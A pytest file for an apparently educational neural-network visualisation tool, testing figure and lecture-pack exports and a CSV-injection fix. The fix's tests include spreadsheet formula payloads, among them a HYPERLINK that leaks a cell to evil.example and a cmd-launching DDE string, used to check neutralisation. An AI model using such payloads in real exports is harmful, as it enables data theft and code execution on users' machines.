"""Exports: every format parses back; the lecture pack's contents; the CLI regenerates the data."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import plotly.graph_objects as go
import pytest

from memviz import export, vegalite
from memviz.cli import main
from memviz.engine import figures, lesson
from memviz.gates import figures as gradient_figures
from memviz.gates import gradients

from .conftest import tiny_config


@pytest.fixture(scope="module")
def les():
    return lesson.prepare(tiny_config("gru", task="brackets", seq_len=10, hidden=4, steps=10))


def _check(data: bytes, fmt: str) -> None:
    if fmt == "png":
        assert data[:8] == b"\x89PNG\r\n\x1a\n"
    elif fmt == "pdf":
        assert data[:5] == b"%PDF-"
    elif fmt == "svg":
        assert ET.fromstring(data).tag.endswith("svg")
    else:
        rows = list(csv.DictReader(io.StringIO(data.decode())))
        assert rows and not {"trace", "x", "y", "z"} & set(rows[0])  # named columns


def test_every_lesson_figure_exports_in_every_format(les):
    for fig in figures.lesson_figures(les, 4, 1).values():
        for fmt in export.FORMATS:
            _check(export.render(fig, fmt), fmt)


def test_gradient_and_saturation_figures_export():
    st = gradients.study(tiny_config(seq_len=5, hidden=3, steps=3))
    for fig in (gradient_figures.gradient_reach(st),
                gradient_figures.saturation_scatter(st, "gru")):
        for fmt in ("svg", "csv"):
            _check(export.render(fig, fmt), fmt)


def test_heatmap_csv_holds_every_cell_of_every_panel(les):
    fig = figures.lesson_figures(les)["gru_heatmaps"]
    rows = list(csv.DictReader(io.StringIO(export.render(fig, "csv").decode())))
    assert len(rows) == 4 * 10 * 4  # r, z, n, h panels x T x H
    assert list(rows[0]) == ["panel", "field", "time step t", "unit", "value"]
    first = [r for r in rows if r["field"] == "r"]
    assert (first[0]["time step t"], first[0]["unit"]) == ("1", "0")
    assert float(first[0]["value"]) == pytest.approx(float(les.trace["r"][0, 0]), abs=1e-6)


def test_an_unsupported_figure_says_why():
    fig = go.Figure(go.Pie(values=[1, 2]))
    assert "pie" in export.unsupported_reason(fig)
    with pytest.raises(export.ExportUnsupported, match="pie"):
        export.render(fig, "svg")
    with pytest.raises(export.ExportUnsupported, match="unknown format"):
        export.render(figures.loss_curve([1.0, 0.5]), "gif")


def test_lecture_pack_holds_figures_data_equations_and_config(les):
    figs = figures.lesson_figures(les)
    pie = go.Figure(go.Pie(values=[1, 2]))
    data = export.lecture_pack({**figs, "pie": pie}, [r"h_t = \tanh(a_t)"],
                               {"model": {"arch": "gru"}}, "GRU lesson")
    z = zipfile.ZipFile(io.BytesIO(data))
    names = set(z.namelist())
    for name in figs:
        assert {f"figures/{name}.{f}" for f in ("svg", "pdf", "png", "csv")} <= names
    assert {"equations.tex", "config.json", "MISSING.txt"} <= names
    assert "pie.svg: no offline export" in z.read("MISSING.txt").decode()
    assert json.loads(z.read("config.json")) == {"model": {"arch": "gru"}}
    tex = z.read("equations.tex").decode()
    assert tex.startswith(r"\documentclass") and r"\[ h_t = \tanh(a_t) \]" in tex
    _check(z.read("figures/gru_heatmaps.png"), "png")


@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="no LaTeX installed (pdflatex)")
def test_equations_tex_compiles(tmp_path, les):
    from memviz.engine import equations

    eqs = [*equations.live(les.trace, 3, 0).values(), *equations.CANONICAL["lstm"].values()]
    (tmp_path / "eq.tex").write_text(export.tex_document(eqs, "memviz_test & co"))
    p = subprocess.run(["pdflatex", "-interaction=nonstopmode", "eq.tex"], cwd=tmp_path,
                       capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stdout[-2000:]


def test_cli_export_regenerates_the_same_data(tmp_path):
    assert main(["train", "--arch", "rnn", "--task", "sine", "--seq-len", "12", "--hidden", "3",
                 "--steps", "15", "--out", str(tmp_path / "run")]) == 0
    cfg = tmp_path / "run" / "config.json"
    for out in ("a", "b"):
        assert main(["export", "--config", str(cfg), "--out", str(tmp_path / out),
                     "--formats", "csv,svg"]) == 0
    a = sorted(p.name for p in (tmp_path / "a").iterdir())
    assert "rnn_heatmaps.csv" in a and "rnn_unit_lines.svg" in a
    for name in a:
        if name.endswith(".csv"):
            assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()


def test_cli_export_uses_the_view_of_a_lecture_pack_config(tmp_path):
    cfg = tiny_config("lstm", seq_len=6, hidden=3, steps=5).to_dict()
    (tmp_path / "config.json").write_text(json.dumps({**cfg, "view": {"t": 2, "unit": 1}}))
    assert main(["export", "--config", str(tmp_path / "config.json"), "--out", str(tmp_path / "o"),
                 "--formats", "svg"]) == 0
    assert "step 2 and unit 1" in (tmp_path / "o" / "lstm_heatmaps.svg").read_text()


@pytest.mark.parametrize("args, message", [
    (["export", "--config", "/no/such.json", "--out", "x"], "cannot read"),
    (["export", "--config", "pyproject.toml", "--out", "x"], "cannot read"),
    (["export", "--out", "x"], "required: --config"),
])
def test_cli_export_bad_arguments(args, message):
    p = subprocess.run([sys.executable, "-m", "memviz", *args], capture_output=True, text=True)
    assert p.returncode == 2 and message in p.stderr and "Traceback" not in p.stderr


@pytest.fixture(scope="module")
def tiny_cnn():
    from memviz.cnn import model as cnn

    cfg = cnn.CNNConfig(channels1=2, channels2=4, kernel=3, pool=True, steps=10, batch=16,
                        lr=0.01, seed=0)
    run = cnn.train_cnn(cfg, None)
    return run, cnn.digits(0).x_test[0, 0]


def test_written_out_convolution_keeps_its_numbers_and_the_patch_upright(tiny_cnn):
    from memviz.cnn import figures as CF
    from memviz.cnn import model as cnn
    from memviz.vegalite import to_vegalite

    run, image = tiny_cnn
    at = cnn.conv_at(run.model, image, "conv1", 0, 2, 4)
    fig = CF.conv_written_out(at, 0)
    svg = export.render(fig, "svg").decode()
    for v in at.patch[0].ravel()[:3]:
        assert f">{v:.2f}<" in svg  # the numbers written in the cells
    spec, rows = to_vegalite(fig)
    patch = spec["vconcat"][0]["hconcat"][0]
    assert patch["layer"][0]["encoding"]["y"]["scale"]["reverse"] is True  # row 0 on top
    assert patch["width"] == patch["height"]  # square cells, as on screen
    top_left = next(r for r in rows if r["row"] == 0 and r["column"] == 0)
    assert top_left["value"] == pytest.approx(float(at.patch[0][0, 0]))


def test_receptive_field_export_has_its_boxes_and_maps_keep_their_shape(tiny_cnn):
    from memviz.cnn import figures as CF
    from memviz.cnn import model as cnn
    from memviz.vegalite import to_vegalite

    run, image = tiny_cnn
    fields = cnn.receptive_fields(cnn.geometry(run.model))
    fig = CF.receptive_fields(image, fields, [f.unit_over(3, 3) for f in fields])
    svg = export.render(fig, "svg").decode().lower()
    for color in CF.FIELD_COLORS[:len(fields)]:
        assert color.lower() in svg
    spec, _ = to_vegalite(CF.feature_maps(cnn.activations(run.model, image)))
    for row in spec["vconcat"]:
        panel = row["hconcat"][0]
        domain = panel["layer"][0]["encoding"]["x"]["scale"]["domain"]
        ydomain = panel["layer"][0]["encoding"]["y"]["scale"]["domain"]
        ratio = (ydomain[1] - ydomain[0]) / (domain[1] - domain[0])
        assert panel["height"] == pytest.approx(panel["width"] * ratio, abs=1)


def test_synapse_change_exports_with_named_columns():
    from memviz.synapses import figures as SF
    from memviz.synapses import model as S

    cfg = S.SynapseConfig(n=3, steps=6)
    sims = S.simulate_all(S.pattern("repeated", cfg), cfg)
    fig = SF.change_heatmaps(sims)
    for fmt in ("png", "pdf"):
        _check(export.render(fig, fmt, scale=1), fmt)
    rows = list(csv.DictReader(io.StringIO(export.render(fig, "csv").decode())))
    assert len(rows) == 3 * 3 * len(sims)
    assert list(rows[0]) == ["panel", "from input line", "onto neuron", "value"]
    assert (rows[1]["from input line"], rows[1]["onto neuron"]) == ("1", "0")


def test_a_dated_series_with_a_shaded_test_period_exports_in_every_format():
    # the forecasting page's figures: dates on x and add_vrect bands (once a TypeError)
    import pandas as pd

    dates = pd.date_range("2020-01-01", periods=6)
    fig = go.Figure(go.Scatter(x=dates, y=[1.0, 2, 3, 2, 1, 0], name="truth"))
    fig.add_vrect(x0=dates[3], x1=dates[5], fillcolor="#0072B2", opacity=0.1)
    fig.update_layout(xaxis_title="date", yaxis_title="temp")
    spec, rows = vegalite.to_vegalite(fig)
    text = json.dumps(spec)
    assert '"temporal"' in text and "2020-01-04" in text  # the band's start, on a time axis
    for fmt in export.FORMATS:
        assert len(export.render(fig, fmt, scale=1)) > 100
    csv_text = export.render(fig, "csv").decode()
    assert csv_text.splitlines()[:2] == ["series,date,temp", "truth,2020-01-01T00:00:00,1.0"]


def test_a_figure_offered_for_export_only_is_built_on_the_first_file_once_in_its_language():
    from memviz import i18n

    built = []

    def build():
        built.append(i18n.current())
        return go.Figure(go.Scatter(x=[1, 2, 3], y=[0.5, 0.25, 0.125]),
                         layout_title_text=i18n.t("recurrent.ui.loss_panel"))
    with i18n.using("zh"):
        fig = export.Deferred(build)
        title = i18n.t("recurrent.ui.loss_panel")
    assert built == []  # nothing built until a file is asked for
    svg = export.render(fig, "svg").decode()  # asked for outside the page's language
    export.render(fig, "csv")
    assert built == ["zh"] and title in svg
    assert export.resolve(fig) is fig.figure and export.resolve(svg) is svg


# ------------------------------------------------------------------ issue 31: CSV injection

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1)", "\t=1+2", "\r=1+2"]


def _runnable(cell: str) -> bool:
    """What a spreadsheet would run: a formula character first, and not a plain number."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("name", FORMULAS)
def test_a_figure_csv_never_starts_a_cell_with_a_formula(name):
    fig = go.Figure(go.Scatter(x=[1, 2, 3], y=[-1.5, 0.25, -2e-05], name=name))
    fig.update_layout(xaxis_title=name, yaxis_title="value")
    rows = list(csv.reader(io.StringIO(export.render(fig, "csv").decode(), newline="")))
    cells = [c for row in rows for c in row]
    assert not any(_runnable(c) for c in cells), cells
    assert rows[0][1] == "'" + name  # the header too (the x axis' title), shown as text
    assert rows[1][0] == "'" + name  # the series' name
    assert [float(r[2]) for r in rows[1:]] == [-1.5, 0.25, -2e-05]  # numbers stay numbers


def test_numbers_and_plain_text_pass_through_the_csv_writer_unchanged():
    text = export.csv_text(["a", "b"], [[-1.5, "-1.5"], ["+3", "-2e-05"], ["x-y", "-inf"]])
    assert text == "a,b\n-1.5,-1.5\n+3,-2e-05\nx-y,-inf\n"


def test_every_csv_the_app_writes_goes_through_the_one_writer():
    # csv.writer / DictWriter / to_csv anywhere else would bypass the neutralising
    root = Path(export.__file__).parent
    found = [str(p.relative_to(root)) for p in root.rglob("*.py") if p.name != "export.py"
             and any(w in p.read_text() for w in ("csv.writer(", "csv.DictWriter(", ".to_csv("))]
    assert found == []


def test_command_line_csv_files_neutralise_formulas():
    from memviz.horizon.report import results_csv
    from memviz.horizon.sweep import Result
    from memviz.text.cellfinder import Best, table_csv

    result = Result("=1+2", "@recall", 5, 0, "accuracy", -0.5, 1.0, 10, False)
    for text in (results_csv([result]), table_csv([Best("in_comment", "-cmd", 3, -0.5)])):
        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        assert not any(_runnable(c) for c in cells), cells
        assert "-0.5" in cells or "-0.5000" in cells  # a negative number is still a number
